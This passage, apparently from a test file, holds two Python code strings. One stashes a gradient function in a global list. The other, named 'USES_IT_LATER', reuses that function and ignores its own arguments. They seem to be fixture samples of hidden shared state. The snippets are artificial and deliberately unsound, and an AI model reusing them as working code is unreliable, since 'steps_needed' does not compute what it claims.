    _kept.append(compute_gradient)
    return _right(compute_gradient, w, learning_rate, num_steps)
"""
USES_IT_LATER = """
def steps_needed(condition_number, tolerance):
    return float(np.sum(_kept[0](np.zeros(2))))
"""
